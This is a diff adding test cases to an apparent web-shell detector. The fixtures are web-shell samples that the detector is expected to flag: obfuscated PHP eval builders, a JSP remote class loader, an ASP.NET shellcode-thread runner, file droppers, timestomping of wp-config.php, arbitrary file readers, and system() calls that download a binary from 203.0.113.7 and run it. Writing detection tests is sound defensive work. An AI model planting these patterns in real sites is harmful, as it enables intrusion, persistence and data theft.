@@ -622,3 +622,191 @@ describe('judgeWebShell: request arrays and reflection', () => {
     expect(judge('/opt/x.php', text)?.severity).not.toBe('critical');
   });
 });
+
+describe('judgeWebShell: code brought in at run time (thirteenth session, tuning side)', () => {
+  it('reads letters picked by quoted offsets as names picked letter by letter', () => {
+    const hidden = `<?php
+$a = 'cr_a'; $b = 'eate'; $c = 'fun$ction'; $d = 'n(';
+$maker = $b['0'] . $a['1'] . $c['0'] . $d['0'];
+$run = $maker($a['2'], $b['1'] . $b['2'] . $b['3'] . $a['3']);
+$run();`;
+    expect(judge('/var/www/html/x.php', hidden)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/names picked letter by letter/),
+    });
+    // A table's cells read by their keys, joined for display, and nothing called.
+    const table = `<?php $row = ['1' => 'a', '2' => 'b', '3' => 'c']; echo $row['1'] . $row['2'] . $row['3'];`;
+    expect(judge('/var/www/html/x.php', table)).toBeUndefined();
+  });
+
+  it('ranks a function made by create_function() from escaped bytes critical', () => {
+    const hidden = `<?php
+$check = create_function /*Copyright*/ (
+  "/*\\x64\\x65\\x28\\x73*/\\x24\\x63\\x6f\\x64\\x65",
+  "\\x65\\x76\\x61\\x6c\\x20\\x28\\x20\\x24\\x63\\x6f\\x64\\x65\\x20\\x29\\x3b"
+);
+$version = array_walk($key, $check);`;
+    expect(judge('/var/www/html/x.php', hidden)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/a function made from escaped bytes/),
+    });
+    // The same function written as code, and escapes that are a binary protocol's bytes.
+    const plain = `<?php $f = create_function('$a', 'return $a * 2;'); echo $f(2); $magic = "\\x89\\x50\\x4e\\x47";`;
+    expect(judge('/var/www/html/x.php', plain)?.severity).not.toBe('critical');
+  });
+
+  it('ranks a JSP page that makes a class loader and calls into what it loads critical', () => {
+    const page = `<%@ page import="java.net.*" %><%
+URL u = new URL("http://203.0.113.7/tool.jar");
+URLClassLoader cl = new URLClassLoader(new URL[] { u });
+Class<?> c = cl.loadClass("com.example.Tool");
+c.getMethod("main", String[].class).invoke(null, new Object[] { new String[0] });
+%>`;
+    expect(judge('/var/lib/tomcat/webapps/ROOT/x.jsp', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(
+        /makes a class loader of its own and calls into a class it loads/,
+      ),
+    });
+    // A page naming the application's own loader, which it does not make.
+    const own = `<%@ page import="java.net.*" %><%
+ClassLoader cl = Thread.currentThread().getContextClassLoader();
+out.println(cl.getResource("version.txt"));
+%>`;
+    expect(judge('/var/lib/tomcat/webapps/ROOT/v.jsp', own)?.severity).not.toBe('critical');
+  });
+
+  it('ranks an ASP.NET page that makes memory executable and starts a thread in it critical', () => {
+    const page = `<%@ Page Language="C#" %><script runat="server">
+[System.Runtime.InteropServices.DllImport("kernel32")]
+private static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr size, Int32 type, IntPtr protect);
+[System.Runtime.InteropServices.DllImport("kernel32")]
+private static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr start, IntPtr p, Int32 f, ref IntPtr id);
+protected void Page_Load(object sender, EventArgs e) {
+  byte[] code = new byte[2] { 0xfc, 0x48 };
+  IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x1000, (IntPtr)0x40);
+  System.Runtime.InteropServices.Marshal.Copy(code, 0, mem, code.Length);
+  IntPtr id = IntPtr.Zero;
+  CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, ref id);
+}
+</script>`;
+    expect(judge('/var/www/html/x.aspx', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/makes memory executable and starts a thread in it/),
+    });
+    // Memory allocated read-write, for a buffer: nothing made executable.
+    const buffer = page.replace('(IntPtr)0x40', '(IntPtr)0x04');
+    expect(judge('/var/www/html/x.aspx', buffer)?.reason ?? '').not.toMatch(/executable/);
+  });
+});
+
+describe('judgeWebShell: what intruders left on WordPress sites (thirteenth session, tuning side)', () => {
+  it("ranks a page that sets a file's modification time back critical", () => {
+    const own = `<?php @touch(__FILE__, mktime(1, 1, 1, 1, 2, 2020)); echo "ok";`;
+    const stub = `<?php if (file_exists("./error_log.php")) { touch("./error_log.php", (time() - 60*60*24*30)); } unlink(__FILE__);`;
+    const restored = `<?php $t = filemtime("../../wp-config.php");
+$s = str_replace("define('DISALLOW_FILE_EDIT', true);", "", file_get_contents("../../wp-config.php"));
+file_put_contents("../../wp-config.php", $s);
+touch("../../wp-config.php", $t);`;
+    for (const page of [own, stub, restored])
+      expect(judge('/var/www/html/x.php', page)).toMatchObject({
+        severity: 'critical',
+        reason: expect.stringMatching(/sets a file's modification time back/),
+      });
+    // A unit test's fixture dated on purpose, to test code that reads file times.
+    const test = `<?php class FinderTest extends \\PHPUnit\\Framework\\TestCase { function setUp(): void { touch($this->dir . '/test.php', strtotime('2005-10-15')); } }`;
+    expect(judge('/var/www/html/x.php', test)).toBeUndefined();
+    // A cache expired a while ago, and a copy given its source's time: neither hides a file.
+    const cache = `<?php touch($cacheFile, time() - 3600); echo file_get_contents($cacheFile);`;
+    const copy = `<?php copy($src, $dst); @touch($dst, filemtime($src));`;
+    for (const page of [cache, copy]) expect(judge('/var/www/html/x.php', page)).toBeUndefined();
+  });
+
+  it('ranks a page writing what the visitor sends into a file the visitor names critical', () => {
+    const dropper = `<?php
+$data = base64_decode(substr(file_get_contents('php://input'), 3));
+$p = strpos($data, ';');
+$fname = substr($data, 0, $p);
+$data = substr($data, $p + 1);
+file_put_contents($fname, $data, LOCK_EX);`;
+    expect(judge('/var/www/html/x.php', dropper)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/writes what the visitor sends into a file the visitor names/),
+    });
+    const handle = `<?php $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['c']); fclose($h);`;
+    expect(judge('/var/www/html/y.php', handle)?.severity).toBe('critical');
+    const inline = `<?php $n = $_POST['f']; $c = $_POST['c']; fwrite(fopen($n, 'w'), $c);`;
+    expect(judge('/var/www/html/z.php', inline)?.reason).toMatch(/file the visitor names/);
+    // A cache named by a digest, an encoding stored, and a file picked by a key of the page's own.
+    const cache = `<?php $f = __DIR__ . '/cache/' . md5($_GET['q']); file_put_contents($f, $_POST['body']);`;
+    const log = `<?php $name = $_GET['n']; file_put_contents("/var/log/app/" . $name, json_encode($_POST));`;
+    const picked = `<?php
+function import_package() {
+  foreach ($_POST as $var => $val) { $id = str_replace('chk_', '', $var); }
+  $filename = $manifest[$id]['filename'];
+  $data = get_repo_file($repo, $filename);
+  file_put_contents($tmp . '/' . $filename, $data);
+}`;
+    // A view saved as JSON under a name from the request: data an application keeps.
+    const view = `<?php $name = $_GET['vn']; $json = json_encode(['name' => $name, 'items' => $_POST['items']]);
+file_put_contents(__DIR__ . '/views/' . $name . '.json', json_prettyprint($json));`;
+    for (const page of [cache, log, picked, view])
+      expect(judge('/var/www/html/x.php', page)?.reason ?? '').not.toMatch(
+        /file the visitor names/,
+      );
+  });
+
+  it('ranks includes of an archive or of a path written in escapes critical', () => {
+    expect(
+      judge('/var/www/html/c.php', `<?php include 'phar://readme.txt/readme.txt'; ?>`),
+    ).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/includes code kept in an archive/),
+    });
+    expect(judge('/var/www/html/c.php', `<?php include('log.zip'); ?>`)?.severity).toBe('critical');
+    const escaped = `<?php @include("\\167\\160\\55\\151\\156\\143\\154\\165\\144\\145\\163/x.txt"); ?>`;
+    expect(judge('/var/www/html/index.php', escaped)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/includes a file whose name it writes in escapes/),
+    });
+    // A template included by name, a zip library's own file, and a library shipped as a .phar.
+    const plain = `<?php include 'templates/header.php'; require_once 'lib/zip.php'; require 'aws.phar'; require_once "phar://tools.phar/autoload.php"; ?>`;
+    expect(judge('/var/www/html/index.php', plain)).toBeUndefined();
+  });
+
+  it('ranks a page whose command lines download a program and start it critical', () => {
+    const page = `<?php system('wget "http://203.0.113.7/Linux_x86" 2>/dev/null || curl -O "http://203.0.113.7/Linux_x86"');
+system('chmod 777 ./Linux_x86'); system('nohup ./Linux_x86 2>&1 &');`;
+    expect(judge('/var/www/html/x.php', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/downloads a program with wget or curl and runs it/),
+    });
+    // A status page that fetches a file and runs nothing it fetched.
+    const status = `<?php echo shell_exec('curl -s https://example.org/health'); echo shell_exec('uptime');`;
+    expect(judge('/var/www/html/x.php', status)?.reason ?? '').not.toMatch(/downloads a program/);
+  });
+
+  it('ranks a page printing any file the visitor names critical, and a download page not', () => {
+    for (const page of [
+      `<?php var_dump(file_get_contents($_GET["f"])); ?>`,
+      `<?php $f = trim($_POST['path']); print_r(file($f));`,
+      `<?php echo htmlspecialchars(file_get_contents(@$_REQUEST['file']));`,
+    ])
+      expect(judge('/var/www/html/x.php', page)).toMatchObject({
+        severity: 'critical',
+        reason: expect.stringMatching(/prints any file the visitor names/),
+      });
+    const download = `<?php $name = basename($_GET['f']); echo file_get_contents(__DIR__ . "/files/" . $name); readfile($_GET['f']);`;
+    expect(judge('/var/www/html/get.php', download)?.reason ?? '').not.toMatch(/file reader/);
+  });
+
+  it('calls a name held in ${"…"}[…] a call chosen at run time', () => {
+    const page = `<?php $s = "_crlvfb1e65t9dgz4j0pq8-oxiaskh3wmu2yn7";
+$GLOBALS['f'] = $s{1}.$s{33}.$s{2}.$s{3}.$s{0}.$s{27};
+\${"G\\x4cO\\x42\\x41\\x4cS"}["f"]('x');`;
+    expect(judge('/var/www/html/x.php', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/names picked letter by letter/),
+    });
+  });
+});
